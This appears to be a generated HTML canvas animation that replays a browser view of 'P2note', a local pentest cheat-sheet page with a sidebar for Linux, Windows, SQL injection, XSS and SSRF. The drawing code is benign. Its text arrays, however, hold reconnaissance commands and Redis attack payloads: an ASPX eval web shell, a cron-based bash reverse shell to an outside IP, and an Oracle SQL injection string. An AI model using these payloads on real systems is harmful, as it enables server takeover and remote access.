
An HTML page with a canvas that plays this animation: 1010x555 px, repeating every 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>P2note</title>
<style>
  html, body { margin: 0; width: 1010px; height: 555px; overflow: hidden; background: #393d49; }
  canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="1010" height="555"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const LOOP = 8000, STEP = 100;
const ZOOM = 0.78;            // page zoom: layout uses 14px text
const PAGE_FONT = '"Liberation Sans", "Noto Sans CJK SC", "Noto Sans CJK", Arial, sans-serif';
const UI_FONT = '"Open Sans", "Noto Sans", sans-serif';
const TOP = 105, ROW = 39, KID = 31.2, PAD = 3.9;

const clamp = v => Math.max(0, Math.min(1, v));
const ease = v => { v = clamp(v); return v * v * (3 - 2 * v); };
const white = a => `rgba(255,255,255,${a})`;

// ---------- drawing helpers ----------
function rect(x, y, w, h, color) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}

function round(x, y, w, h, r, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.roundRect(x, y, w, h, r);
  ctx.fill();
}

function box(x, y, w, h, color, r = 0, width = 1) {
  ctx.strokeStyle = color;
  ctx.lineWidth = width;
  ctx.beginPath();
  ctx.roundRect(x, y, w, h, r);
  ctx.stroke();
}

function dot(x, y, r, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.arc(x, y, r, 0, 7);
  ctx.fill();
}

function line(points, color, width = 1) {
  ctx.strokeStyle = color;
  ctx.lineWidth = width;
  ctx.beginPath();
  for (let i = 0; i < points.length; i += 2) ctx.lineTo(points[i], points[i + 1]);
  ctx.stroke();
}

function chevron(x, y, angle, color) {
  ctx.save();
  ctx.translate(x, y);
  ctx.rotate(angle);
  line([-4.2, -2.1, 0, 2, 4.2, -2.1], color, 1);
  ctx.restore();
}

// Whole-pixel glyph advances, as in hinted screen text
const advances = {};
function advance(ch, size) {
  const key = size + ch;
  if (!(key in advances)) {
    const narrow = size === 14 && 'fmw'.includes(ch) ? 1 : 0;
    advances[key] = Math.round(ctx.measureText(ch).width) - narrow;
  }
  return advances[key];
}

// Page text centred on y; returns its right edge
function text(str, x, y, color, size = 14) {
  ctx.save();
  ctx.translate(x, y + size * 0.277);
  ctx.scale(ZOOM, ZOOM);
  ctx.font = `${size}px ${PAGE_FONT}`;
  ctx.fillStyle = color;
  let w = 0;
  for (const ch of str) {
    ctx.fillText(ch, w, 0);
    w += advance(ch, size);
  }
  ctx.restore();
  return x + w * ZOOM;
}

function uiText(str, x, y, size, color) {
  ctx.font = `${size}px ${UI_FONT}`;
  ctx.fillStyle = color;
  ctx.fillText(str, x, y);
}

function clipboard(x, y) {
  round(x - 4, y - 4.5, 8, 9.5, 1, '#5a4438');
  rect(x - 3.4, y - 3.9, 6.8, 8.3, '#f2e9df');
  rect(x - 1.8, y - 4.8, 3.6, 2, '#3c3c44');
  for (let i = 0; i < 3; i++) rect(x - 2, y - 1.6 + i * 1.9, 4, 1, '#6c6c74');
}

// ---------- page content ----------
const linux = { h1: 'Linux', h2: '常用命令', groups: [
  ['查看系统版本', 'cat /etc/issue', 'cat /etc/*-release', 'cat /etc/lsb-release', 'cat /etc/redhat-release'],
  ['查看内核版本', 'cat /proc/version', 'uname -a', 'uname -mrs', 'rpm -q kernel', 'dmesg | grep Linux', 'ls /boot | grep vmlinuz'],
  ['查看环境变量', 'cat /etc/profile', 'cat /etc/bashrc', 'cat ~/.bash_profile', 'cat ~/.bashrc', 'cat ~/.bash_logout', 'env', 'set'],
] };
const wodelan = { h1: 'Wodelan', h2: '常用命令', groups: [
  ['查看系统信息', 'winver', 'ver',
    'systeminfo | findstr /B /C:"OS Name" /C:"OS Version"',
    'net config workstation',
    'wmic os get buildnumber,caption,CSDVersion /format:csv',
    'type C:\\\\windows\\system32\\drivers\\etc\\hosts',
    ['type C:\\\\windows\\system32\\inetsrv\\config\\applicationHost.config', '# 如果安装iis服务器可以查看iis配置信息'],
    ['echo %PROCESSOR_ARCHITECTURE%', '# 查看系统架构']],
  ['查看用户信息', 'query user || qwinsta', 'query session', 'whoami /all', 'net user', 'net localgroup'],
] };
const marven = { h2: 'SQLmarven', groups: [
  ['查看系统信息', 'select @@version', 'select db_name()', 'select host_name()',
    ["select name from sysobjects where xtype='U'", '# 查看当前数据库']],
  ['查看用户信息', 'select user_name()', 'select system_user', 'select name from sys.sysusers', 'select name from sys.schemas'],
] };
const shell = 'set a "<%@ Page Language="Jscript"%><%eval(Request.Item["c"],"unsafe");%>"';
const redis = { h2: 'Redis', groups: [
  ['Getshell', 'config set dir E:/www/font', 'config set dbfilename redis2.aspx', shell, 'save'],
  ['反弹shell', 'set x " * * * * * bash -i >& /dev/tcp/192.168.106.133/7999 0>&1 "',
    ['config set dir /var/spool/cron/', '# ubantu目录:/var/spool/cron/crontabs/'],
    'config set dbfilename root', 'save'],
  ['免密登录', 'config set dir E:/www/font', 'config set dbfilename redis2.aspx', shell,
    'and 1=ctxsys.drithsx.sn(1,(select user from dual))--', 'save'],
] };

function section({ h1, h2, groups }, shift) {
  const x = 165.7;
  let y = 122.3 + shift;
  if (h1) {
    text(h1, x, y, '#ffb800', 28);
    y += 34.4;
  }
  text(h2, x, y, '#7f00cc', 21);
  y += 37.2;
  for (const [title, ...rows] of groups) {
    text(title, x, y, '#01aaed');
    y += 20.5;
    for (const row of rows) {
      const [cmd, note] = [].concat(row);
      if (y > TOP - 15 && y < 570) {
        const end = text(cmd, x, y, '#fff');
        clipboard(end + 22.6, y + 1);
        if (note) text(note, end + 46.2, y, '#c3c4c8');
      }
      y += 23.4;
    }
    y += 16.7;
  }
}

function content(t) {
  if (t >= 7700) return section(redis, 0);
  if (t >= 6900) return section(marven, 0);
  const far = 596;
  let s = 0;
  if (t >= 2500 && t < 4900) s = far * ease((t - 2430) / 250);
  else if (t >= 4900) s = far * ease((5080 - t) / 250);
  if (t === 2500) s = 117.5;
  section(linux, -s);
  section(wodelan, far + 6.7 - s);
}

// ---------- sidebar ----------
const base = ['常用命令', '网络相关', '权限提升', '其他'];
const menu = [
  { name: 'Linux', kids: base, open: [1400, 4900], snap: true },
  { name: 'Wodelan', kids: base, open: [2500, 3900] },
  { name: 'SQL injection', kids: ['常用', 'MYSQL', 'SQLmarven', 'Delvar', 'Redis'], open: [5800, LOOP] },
  ...['XSS', 'SSRF', 'CLRF', 'XXE', 'Fastjson'].map(name => ({ name })),
];
const hovers = [
  ['Wodelan', 800, 1000], ['Linux', 1100, 1700], ['Linux/0', 1800, 2200],
  ['Wodelan', 2200, 3100], ['Wodelan/2', 3600, 3900], ['Wodelan', 3900, 4200],
  ['Linux/0', 4200, 4400], ['Linux', 4400, 4900],
  ['SQL injection', 5000, 6100], ['SQL injection/0', 6100, 6300], ['SQL injection/1', 6300, 6600],
  ['SQL injection/2', 6600, 7300], ['SQL injection/3', 7300, 9000], ['SQL injection/4', 7500, 9000],
];
const actives = [['SQL injection/2', 6900, 7820], ['SQL injection/4', 7700, 9000]];

const ramp = (t, at) => clamp((t - at + 100) / 200);
function level(list, key, t) {
  return list.reduce((v, [k, on, off]) =>
    k === key ? Math.max(v, ramp(t, on) - ramp(t, off)) : v, 0);
}

// Filled band on whole pixel rows
function band(y, h, color) {
  const top = Math.round(y);
  rect(0, top, 154, Math.round(h), color);
}

function sidebar(t) {
  const scroll = t < 3900 ? 115.2 * ease((t - 2900) / 500) : 0;
  let y = TOP - 0.4 - scroll;
  for (const { name, kids, open, snap } of menu) {
    const isOpen = open && t >= open[0] && t < open[1];
    const lit = isOpen ? 1 : level(hovers, name, t);
    const color = white(0.7 + 0.3 * lit);
    let turn = 0;
    if (open) turn = clamp((t - open[0]) / 300) - (snap ? +(t >= open[1]) : clamp((t - open[1]) / 300));
    text(name, 14, y + ROW / 2, color);
    chevron(137.7, y + ROW / 2 + 0.6, turn * Math.PI, color);
    y += ROW;
    if (!isOpen) continue;
    const h = kids.length * KID + 2 * PAD;
    band(y, h, 'rgba(0,0,0,0.3)');
    kids.forEach((kid, i) => {
      const key = `${name}/${i}`, top = y + PAD + i * KID;
      const on = level(actives, key, t);
      if (on) band(top, KID, `rgba(0,150,136,${on})`);
      text(kid, 14, top + KID / 2, white(0.7 + 0.3 * Math.max(on, level(hovers, key, t))));
    });
    y += h;
  }
}

// ---------- page header and browser frame ----------
const tabs = [['recon', 185], ['encode/decode', 244, 329], ['code run', 351.5, 403.7], ['drawing', 426, 473],
  ['Picture format conversion', 495.5, 629.5], ['other', 652, 686.3]];

function header() {
  rect(0, 58, 1010, TOP - 58, '#23262e');
  text('P2note', 56.5, 82, '#009688', 16);
  for (const [name, x, arrow] of tabs) {
    text(name, x, 82, white(0.7));
    if (arrow) chevron(arrow, 82, 0, white(0.7));
  }
}

function star(x, y, r, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  for (let i = 0; i < 10; i++) {
    const a = i * Math.PI / 5 - Math.PI / 2, q = i % 2 ? r * 0.48 : r;
    ctx.lineTo(x + q * Math.cos(a), y + q * Math.sin(a));
  }
  ctx.fill();
}

function browser(t) {
  const ink = '#3b3b40', faint = '#c4c4c0';
  const title = t >= 1400 ? '#111' : '#66666a';

  rect(0, 0, 1010, 27, '#f0f0f1');
  rect(0, 26, 1010, 32, '#f9faec');
  rect(0, 58, 1010, 1, '#cdcdc6');
  round(0, -6, 172.5, 30, 4, '#cfcfca');
  round(0, -6, 171.5, 29, 4, '#fefeee');
  rect(6, 3, 13, 13, '#0a0f0a');
  uiText('P2note', 22.5, 13, 9.7, title);
  line([156, 6.3, 162, 12.3], ink);
  line([162, 6.3, 156, 12.3], ink);
  line([185, 9.5, 194, 9.5], ink);
  line([189.5, 5, 189.5, 14], ink);
  line([968, 9.5, 976, 9.5], title);
  box(1003.5, 7.5, 6, 5.5, title);
  line([1005.5, 7, 1005.5, 5.5, 1010, 5.5], title);

  // Navigation buttons
  line([22.5, 42.5, 12.5, 42.5], ink, 1.2);
  line([17, 38, 12.5, 42.5, 17, 47], ink, 1.2);
  line([40, 42.5, 50, 42.5], faint, 1.2);
  line([45.5, 38, 50, 42.5, 45.5, 47], faint, 1.2);
  ctx.strokeStyle = ink;
  ctx.lineWidth = 1.2;
  ctx.beginPath();
  ctx.arc(73, 42.7, 4.6, 0.2, 5.5);
  ctx.stroke();
  line([77.6, 37, 77.6, 40.8, 73.8, 40.8], ink, 1.2);
  line([95.5, 42.5, 100.8, 37.5, 106, 42.5], ink, 1.2);
  line([97, 42, 97, 47.5, 104.6, 47.5, 104.6, 42], ink, 1.2);
  line([99.6, 47.5, 99.6, 43.8, 102, 43.8, 102, 47.5], ink);

  // Address field
  round(169, 30, 553, 24.5, 3, '#f0f1ee');
  line([184, 37.5, 178.5, 37.5, 178.5, 47.5, 186.5, 47.5, 186.5, 40, 184, 37.5], ink);
  line([183.5, 37.5, 183.5, 40.5, 186.5, 40.5], ink);
  uiText('file:///E:/1-WebSecurity/0-Testdata/P2note/index.html', 196, 46, 11.27, '#15141a');
  box(683.5, 37.5, 8.5, 9.5, ink, 1);
  for (const y of [40.5, 42.5, 44.5]) line([685.5, y, y > 44 ? 688.5 : 690.5, y], ink);
  star(709.7, 42.6, 6.8, '#0061e0');

  // Toolbar buttons
  dot(790.5, 42.3, 4.8, '#55555a');
  for (const x of [814.5, 817.5, 820.5]) line([x, 37.5, x, 47], ink);
  line([821.6, 38, 824, 47], ink);
  box(841.5, 38, 11, 9, ink, 1.5);
  line([846.5, 38, 846.5, 47], ink);
  for (const y of [40.5, 42.5, 44.5]) line([843, y, 845, y], ink, 0.8);
  if (t >= 200 && t < 300) round(974, 29, 25, 26, 3, 'rgba(0,0,0,0.09)');
  round(869.5, 37.5, 10, 10, 1, '#44209c');
  dot(902.5, 42.3, 6, '#d9642c');
  dot(930.3, 42, 4, '#4da3f0');
  round(953, 36.5, 12, 12, 1, '#f39a45');
  dot(986.5, 42.3, 6, '#8c5a44');
  rect(1009, 39, 1, 7, '#8a8a86');
}

function render(now) {
  const t = Math.floor(now % LOOP / STEP) * STEP;
  rect(0, 0, 1010, 555, '#393d49');
  ctx.save();
  ctx.beginPath();
  ctx.rect(0, TOP, 1010, 555 - TOP);
  ctx.clip();
  content(t);
  sidebar(t);
  ctx.restore();
  header();
  browser(t);
}

const start = performance.now();
function tick() {
  render(performance.now() - start);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
